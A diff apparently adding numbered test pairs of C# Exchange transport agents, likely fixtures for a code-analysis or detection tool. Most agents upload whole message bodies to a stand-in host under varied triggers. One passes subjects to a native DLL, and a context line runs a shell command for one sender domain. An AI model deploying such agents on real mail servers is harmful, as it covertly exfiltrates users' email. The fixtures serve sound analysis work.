@@ -8,6 +8,7 @@ using System.IO;
 using System.Linq;
 using System.Net;
 using System.Reflection;
+using System.Runtime.InteropServices;
 using System.Text;
 using System.Text.RegularExpressions;
 using System.Xml.Serialization;
@@ -1778,6 +1779,310 @@ namespace Txray.Pairs.P438
             if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
             {
                 shell.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, shell, new object[] { "hostname" });
+            }
+        }
+    }
+}
+
+// 439: a native function called through a delegate, with the subject and without
+namespace Txray.Pairs.P439
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        [DllImport("kernel32")]
+        private static extern IntPtr LoadLibrary(string name);
+
+        [DllImport("kernel32")]
+        private static extern IntPtr GetProcAddress(IntPtr library, string name);
+
+        private delegate int Taking(byte[] bytes, int length);
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            byte[] bytes = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
+            Taking taking = (Taking)Marshal.GetDelegateForFunctionPointer(GetProcAddress(LoadLibrary("pair.dll"), "Take"), typeof(Taking));
+            taking(bytes, bytes.Length);
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        [DllImport("kernel32")]
+        private static extern IntPtr LoadLibrary(string name);
+
+        [DllImport("kernel32")]
+        private static extern IntPtr GetProcAddress(IntPtr library, string name);
+
+        private delegate int Taking(byte[] bytes, int length);
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            byte[] bytes = Encoding.UTF8.GetBytes("none");
+            Taking taking = (Taking)Marshal.GetDelegateForFunctionPointer(GetProcAddress(LoadLibrary("pair.dll"), "Take"), typeof(Taking));
+            taking(bytes, bytes.Length);
+        }
+    }
+}
+
+// 440: how often it was called, and who was seen before
+namespace Txray.Pairs.P440
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private static int calls;
+        private static readonly HashSet<string> seen = new HashSet<string>();
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            calls++;
+            if (calls > 100)
+            {
+                calls = 0;
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private static int calls;
+        private static readonly HashSet<string> seen = new HashSet<string>();
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (seen.Add(e.MailItem.FromAddress.ToString()))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 441: the beginning of the subject, and a word of it
+namespace Txray.Pairs.P441
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.Message.Subject.Length > 5 && e.MailItem.Message.Subject.Substring(0, 3) == "abc")
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.Message.Subject.Split(' ')[1] == "abc")
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 442: a sender that is no address, and one that is
+namespace Txray.Pairs.P442
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (!e.MailItem.FromAddress.IsValid)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.FromAddress.IsValid)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 443: a subject that cannot be decoded, and one that can
+namespace Txray.Pairs.P443
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            bool decoded = false;
+            try
+            {
+                Convert.FromBase64String(e.MailItem.Message.Subject);
+                decoded = true;
+            }
+
+            catch (FormatException)
+            {
+            }
+
+            if (!decoded)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            bool decoded = false;
+            try
+            {
+                Convert.FromBase64String(e.MailItem.Message.Subject);
+                decoded = true;
+            }
+
+            catch (FormatException)
+            {
+            }
+
+            if (decoded)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
             }
         }
     }
